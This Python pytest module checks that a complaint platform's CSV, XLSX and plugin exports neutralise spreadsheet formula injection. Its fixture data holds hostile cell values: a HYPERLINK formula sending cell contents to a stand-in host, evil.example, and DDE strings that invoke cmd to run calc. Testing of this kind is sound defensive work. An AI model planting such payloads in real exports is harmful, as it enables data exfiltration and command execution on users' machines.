"""Formula injection (OWASP "CSV injection"): no cell of an export is a formula, whichever exporter writes it.

Messages whose title or body would start a spreadsheet formula are imported,
exported through ``massline export`` as CSV, XLSX and a deployment's own
exporter (this module is that plugin: a naive tab-separated writer), and read
back with ``csv`` and ``openpyxl``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from massline import hookimpl
from massline.config import get_settings
from massline.io.exporters import Exporter, neutralise
from massline.platform import Platform
from tests.io.test_import_export import HEADER, do_import, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DANGEROUS = {
    "D1": (HYPERLINK, "+1+cmd|' /C calc'!A0 请处理小区噪音问题"),
    "D2": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0 路灯坏了很久"),
    "D3": ("＝1+1 全角等号开头的标题", "@市长 小区停水三天了，没人管"),
}
ORDINARY = ("单位拖欠工资三个月", "公司拖欠我们农民工工资三个月了，请劳动监察帮忙追讨。")


def _rows() -> list[list[str]]:
    rows = [[key, title, body, "投诉", "cs", "城乡建设", "", "2020-01-06 10:00:00", "2", "", ""]
            for key, (title, body) in DANGEROUS.items()]
    return [*rows, ["O1", *ORDINARY, "投诉", "cs", "城乡建设", "", "2020-01-06 11:00:00", "5", "", ""]]


def _write_tsv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """A deployment's naive exporter: no escaping of its own."""
    count = 0
    with path.open("w", encoding="utf-8") as handle:
        handle.write("\t".join(header) + "\n")
        for row in rows:
            handle.write("\t".join("" if v is None else str(v) for v in row) + "\n")
            count += 1
    return count


@hookimpl
def register_exporters() -> list[Exporter]:
    """This module as a deployment's plugin: a tab-separated exporter."""
    return [Exporter("tsv", ("tsv",), _write_tsv, "tab-separated text")]


@pytest.fixture
def exported(monkeypatch: pytest.MonkeyPatch, deployed: Platform, tmp_path: Path) -> Iterator[Path]:
    monkeypatch.setenv("MASSLINE_ENVIRONMENT", "test")
    monkeypatch.setenv("MASSLINE_INSTANCE_DIR", str(deployed.settings.instance_dir))
    monkeypatch.setenv("MASSLINE_DATABASE_URL", deployed.settings.database_url)
    monkeypatch.setenv("MASSLINE_PLUGINS", __name__)
    get_settings.cache_clear()
    assert do_import(deployed, write_csv(tmp_path / "in.csv", _rows(), header=HEADER)).imported == 4
    yield tmp_path
    get_settings.cache_clear()


def invoke(*args: str) -> Result:
    from massline.cli import main

    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def _check(rows: list[list[Any]]) -> None:
    """The header and four messages: dangerous text quoted, ordinary text and numbers unchanged."""
    header, *data = rows
    assert header[:3] == ["追踪码", "留言时间", "标题"]
    by_title = {row[2]: row for row in data}
    for title, body in DANGEROUS.values():
        row = by_title["'" + title]
        assert row[3] == "'" + body
    ordinary = by_title[ORDINARY[0]]
    assert ordinary[3] == ORDINARY[1]
    for row in data:
        for value in row:
            assert not (isinstance(value, str) and value.lstrip()[:1] in "=+-@＝＋－＠" and value.strip()), row


def test_csv_export_neutralises_formulas(exported: Path) -> None:
    out = exported / "out.csv"
    assert invoke("export", str(out)).exit_code == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows: list[list[Any]] = list(csv.reader(handle))
    _check(rows)
    assert {row[13] for row in rows[1:]} == {"2", "5"}  # 点赞数


def test_xlsx_export_has_no_formula_cell(exported: Path) -> None:
    out = exported / "out.xlsx"
    assert invoke("export", str(out)).exit_code == 0
    sheet = load_workbook(out).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    _check(values)
    assert {row[13] for row in values[1:]} == {2, 5}  # numbers stay numbers
    assert all(sheet.cell(row=r, column=3).data_type == "s" for r in range(2, 6))


def test_a_deployments_exporter_receives_neutralised_cells(exported: Path) -> None:
    out = exported / "out.tsv"
    result = invoke("export", str(out))
    assert result.exit_code == 0, result.output
    lines = out.read_text(encoding="utf-8").splitlines()
    _check([line.split("\t") for line in lines])


def test_neutralise_follows_owasp() -> None:
    for text in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", " =1", "\n@x", "\x01=1", "＝1"):
        assert neutralise(text) == "'" + text
        assert neutralise(neutralise(text)) == "'" + text  # idempotent
    for value in ("路灯坏了", "", "a=b", "'=1", "-5", "+3.5", -5, 3.25, None):
        assert neutralise(value) == value
